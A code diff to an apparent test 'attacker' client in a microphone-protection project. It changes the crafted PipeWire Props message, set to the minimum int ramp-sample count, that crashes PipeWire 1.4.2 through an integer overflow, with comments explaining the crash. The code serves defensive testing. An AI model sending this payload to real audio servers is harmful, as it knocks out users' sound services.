@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// Sends the one Props with volumeRampTime that crashes PipeWire 1.4.2, to the microphone or, where it sees none, to a sink
+// Sends the one Props with a volume ramp that crashes PipeWire 1.4.2, to the microphone or, where it sees none, to a sink
 // that it has the server make; ends when the server is gone. Tier 4 (unsandboxed and hostile).
 #include "tests/attackers/client.hpp"
 
@@ -7,6 +7,7 @@
 #include <spa/pod/builder.h>
 
 #include <array>
+#include <limits>
 
 namespace micguard::attack {
 namespace {
@@ -15,9 +16,13 @@ void ramp(pw_node* node, float volume) {
     std::array<std::byte, 256> memory{};
     spa_pod_builder b{};
     spa_pod_builder_init(&b, memory.data(), sizeof(memory));
+    // The number of steps is this number divided by -1, the length of a step that nobody has set: more than an int holds,
+    // at which an x86 processor ends the process at once. Any other ramp (volumeRampTime) never comes to its end, and the
+    // server with it only when its memory does.
+    constexpr int samples = std::numeric_limits<int>::min();
     const auto* props = static_cast<const spa_pod*>(spa_pod_builder_add_object(
-        &b, SPA_TYPE_OBJECT_Props, SPA_PARAM_Props, SPA_PROP_volume, SPA_POD_Float(volume), SPA_PROP_volumeRampTime,
-        SPA_POD_Int(1000)));
+        &b, SPA_TYPE_OBJECT_Props, SPA_PARAM_Props, SPA_PROP_volume, SPA_POD_Float(volume), SPA_PROP_volumeRampSamples,
+        SPA_POD_Int(samples)));
     pw_node_set_param(node, SPA_PARAM_Props, 0, props);
 }
 
